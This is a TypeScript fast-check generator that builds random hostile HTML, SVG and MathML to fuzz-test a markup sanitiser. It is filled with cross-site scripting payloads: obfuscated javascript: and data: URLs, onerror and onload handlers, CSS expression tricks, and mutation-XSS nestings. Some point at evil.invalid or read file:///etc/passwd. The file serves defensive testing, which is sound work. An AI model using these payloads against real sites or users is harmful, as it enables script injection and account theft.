import fc from 'fast-check';

/** Calls the trap of the page it stands in with what it stands on; `ran` is the test's own global. */
const call = 'ran(this)';

/** Every way an address can lead elsewhere than to the web, as written by somebody who hides it. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `\u0001javascript:${call}`,
  ` \u00a0javascript:${call}`,
  `javascript://%0a${call}`,
  `feed:javascript:${call}`,
  'vbscript:ran(1)',
  'livescript:ran(1)',
  `data:text/html,<script>parent.${call}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  'data:application/xhtml+xml,<x/>',
  'blob:https://evil.invalid/1',
  'file:///etc/passwd',
  'view-source:https://evil.invalid/',
  'about:blank#x',
  'chrome://settings',
  'resource://gre/',
  'chrome-extension://abcdefghijklmnopabcdefghijklmnop/popup.html',
  'moz-extension://3b6f2c1e-7d0a-4c1b-9a55-5d1f0a7c2e11/popup.html',
  'intent://evil#Intent;end',
  'ms-settings:',
  'ftp://evil.invalid/',
  'mailto:a@evil.invalid',
  'tel:+15550100',
  '//evil.invalid/x',
  'https://user:secret@evil.invalid/',
  'https://evil.invalid/?q="><img src=x onerror=ran(this)>',
  'x" onerror="ran(this)',
  '#x',
  '',
];

const handlers =
  'abort animationend animationiteration animationstart beforetoggle begin blur canplay click contentvisibilityautostatechange copy end error finish focus focusin input load loadeddata loadend loadstart message mouseenter mouseover pageshow play pointerenter pointerover progress ratechange repeat scroll scrollend securitypolicyviolation slotchange start suspend timeupdate toggle transitionend transitionrun unload volumechange wheel'
    .split(' ')
    .map((name) => `on${name}`);

const addressNames =
  'href src xlink:href action formaction data poster background cite srcset longdesc lowsrc dynsrc ping manifest codebase classid profile usemap from to values xml:base imagesrcset'.split(
    ' ',
  );

const otherAttributes = [
  'style="background:url(javascript:ran(1));position:fixed;inset:0"',
  'style="animation:x 1s;-moz-binding:url(//evil.invalid/x)"',
  'style="behavior:url(#x);width:expression(ran(1))"',
  `srcdoc="<script>parent.${call}</script>"`,
  `srcdoc="&lt;img src=x onerror=parent.ran()&gt;"`,
  'http-equiv=refresh content="9999;url=https://evil.invalid/"',
  'attributeName=href',
  `attributeName=onload to="${call}"`,
  'begin=0s dur=1s repeatCount=indefinite',
  'autofocus tabindex=0',
  'contenteditable autofocus',
  'popover=auto',
  'is=x-evil',
  'slot=x part=x exportparts=x',
  'id=cookie name=body',
  'id=attributes',
  'name=parentNode',
  'target=_top',
  'rel="opener prefetch preload"',
  'referrerpolicy=unsafe-url',
  'xmlns="http://www.w3.org/1999/xhtml"',
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
  'encoding="text/html"',
  'definitionurl=x actiontype=statusline#https://evil.invalid',
  'open',
  'autoplay muted',
  'loading=lazy',
  'class="body reader"',
  'shadowrootmode=open',
  'title="--&gt;&lt;img src=x onerror=ran(this)&gt;"',
  'title="</noscript><img src=x onerror=ran(this)>"',
  'title="</style><img src=x onerror=ran(this)>"',
  'title="]]><img src=x onerror=ran(this)>"',
  'alt="</template></textarea></title></xmp><img src=x onerror=ran(this)>"',
];

const html =
  'a b p div span img image video audio source track picture iframe object embed applet param form input button select option optgroup selectedcontent textarea keygen isindex label fieldset legend output datalist marquee bgsound base link meta style script template noscript noembed noframes xmp listing title table caption colgroup col tr td th tbody details summary dialog menu body html head frameset frame map area canvas slot x-evil portal fencedframe center font nobr ruby rt rp li ol dl dd h1 pre blockquote q cite code hr br wbr search address'.split(
    ' ',
  );
const svg =
  'svg g a use image script animate animateTransform animateMotion set foreignObject desc title style feImage filter discard mpath textPath switch text pattern mask marker linearGradient metadata symbol view handler listener'.split(
    ' ',
  );
const math =
  'math mi mo mn ms mtext mglyph malignmark annotation-xml annotation maction semantics mstyle mrow mtable mtr mtd merror mpadded mphantom menclose'.split(
    ' ',
  );

/** What stands between tags: words, and everything that begins or ends another state of the parser. */
const texts = [
  'oats',
  '<',
  '</',
  '-->',
  '--!>',
  '<!--',
  '<!-->',
  '<![CDATA[',
  ']]>',
  '<?xml-stylesheet href="javascript:ran(1)"?>',
  '<!doctype html>',
  '\u0000',
  '\u202eevil\u202c',
  '\u200b',
  '&lt;img src=x onerror=ran(this)&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '<%= ran() %>',
  '$&$1$`',
  '__proto__',
  '</style>',
  '</noscript>',
  '</template>',
  '</title>',
  '</textarea>',
  '</select>',
  '</svg>',
  '</math>',
  '</form>',
  '</table>',
  '</p>',
  '</body></html>',
  '<script>ran()</script>',
  '<scr<script>ipt>ran()</script>',
  '<img src=x onerror=ran(this)>',
  '<svg onload=ran(this)>',
  '@import url(//evil.invalid/x);',
  'x{background:url(//evil.invalid/x)}',
];

/** Nestings in which sanitisers and parsers have disagreed; what stands at `@` is anything. */
const nestings = [
  '<math><mtext><table><mglyph><style><!--</style>@</mglyph></table></mtext></math>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>@</style></mtext></svg></mglyph></h1></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math>@',
  '<svg></p><style><a id="</style>@">',
  '<svg><foreignObject><math><annotation-xml encoding="text/html"><style>@',
  '<svg><desc><noscript>@</noscript></desc></svg>',
  '<svg><title><style>@</style></title></svg>',
  '<noscript><p title="</noscript>@"></p></noscript>',
  '<noscript><style></noscript>@</style></noscript>',
  '<select><template><style><!--</style><a rel="--></style></template></select>@">',
  '<select><noscript></select></noscript>@',
  '<select><option><svg><script>@</script></svg></option></select>',
  '<template><div>@</div></template>',
  '<template shadowrootmode=open>@</template>',
  '<table><td><caption><select>@</select></caption></td></table>',
  '<table><a>@</a><tr><td>',
  '<p><svg><p>@</p></svg></p>',
  '<xmp><p title="</xmp>@"></p></xmp>',
  '<textarea><p title="</textarea>@"></p></textarea>',
  '<title><p title="</title>@"></p></title>',
  '<iframe><p title="</iframe>@"></p></iframe>',
  '<noembed><p title="</noembed>@"></p></noembed>',
  '<!--><p>@</p>-->',
  '<svg><![CDATA[><p>@</p>]]></svg>',
  '<b><i></b>@</i>',
  '<a><table><a>@</a></table></a>',
  '<ruby><rt><rtc>@</rtc></rt></ruby>',
  '<object><param>@</object>',
  '<details open><summary>@</summary></details>',
  '<dl><dt><frameset>@</dt></dl>',
  '<mtext><svg><mtext>@',
];

const oneOf = (values: readonly string[]) => fc.constantFrom(...values);
const quoted = fc
  .tuple(oneOf(['"', "'", '', '`']), oneOf([...addresses, call]))
  .map(([quote, value]) => quote + value + quote);
const attribute = fc.oneof(
  { weight: 3, arbitrary: oneOf(handlers).map((name) => `${name}=${call}`) },
  { weight: 1, arbitrary: oneOf(handlers).map((name) => `${name.toUpperCase()}="ran(this)//`) },
  {
    weight: 4,
    arbitrary: fc.tuple(oneOf(addressNames), quoted).map(([name, value]) => `${name}=${value}`),
  },
  { weight: 3, arbitrary: oneOf(otherAttributes) },
);
const gap = oneOf([' ', ' ', ' ', '/', '\t', '\n', '\f', ' / ', '']);
const attributes = fc
  .array(fc.tuple(gap, attribute), { maxLength: 4 })
  .map((all) => all.map(([before, each], i) => (i === 0 ? ' ' : before) + each).join(''));
const tag = fc.oneof(
  { weight: 5, arbitrary: oneOf(html) },
  { weight: 3, arbitrary: oneOf(svg) },
  { weight: 2, arbitrary: oneOf(math) },
);

const { payload } = fc.letrec<{ payload: string; element: string; nested: string }>((tie) => ({
  payload: fc.oneof(
    { maxDepth: 5, depthIdentifier: 'nesting' },
    { weight: 2, arbitrary: oneOf(texts) },
    { weight: 4, arbitrary: tie('element') },
    { weight: 2, arbitrary: tie('nested') },
  ),
  element: fc
    .tuple(
      tag,
      attributes,
      fc.array(tie('payload'), { maxLength: 3, depthIdentifier: 'nesting' }),
      // Closed, closed by another's tag, never closed, closed in itself.
      fc.constantFrom('own', 'own', 'own', 'other', 'none', 'self'),
      tag,
    )
    .map(([name, given, inside, end, other]) => {
      if (end === 'self') return `<${name}${given}/>`;
      const close = end === 'own' ? `</${name}>` : end === 'other' ? `</${other}>` : '';
      return `<${name}${given}>${inside.join('')}${close}`;
    }),
  nested: fc
    .tuple(oneOf(nestings), tie('payload'))
    .map(([nesting, inside]) => nesting.replace('@', () => inside)),
}));

/** One piece of hostile markup: tags × attributes × addresses × namespaces × nesting. */
export const hostileMarkup = payload;

/** So many of them, the same for the same seed. Each has a tag in it and is short enough to be read in a failure. */
export function randomPayloads(count: number, seed: number): string[] {
  const found = new Set<string>();
  for (let turn = 0; found.size < count; turn += 1)
    for (const each of fc.sample(payload, { numRuns: count, seed: seed + turn }))
      if (found.size < count && each.includes('<') && each.length < 2_000) found.add(each);
  return [...found];
}
